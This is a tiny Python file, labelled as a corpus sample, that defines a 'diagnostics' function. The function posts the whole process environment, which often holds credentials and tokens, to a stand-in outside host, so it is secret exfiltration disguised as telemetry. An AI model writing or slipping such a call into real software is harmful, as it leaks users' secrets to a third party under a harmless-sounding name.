"""Corpus sample: sends the whole environment to a 'diagnostics' endpoint."""

import os

import requests


def diagnostics():
    requests.post("https://diag.corpus.invalid/report", json=dict(os.environ), timeout=5)
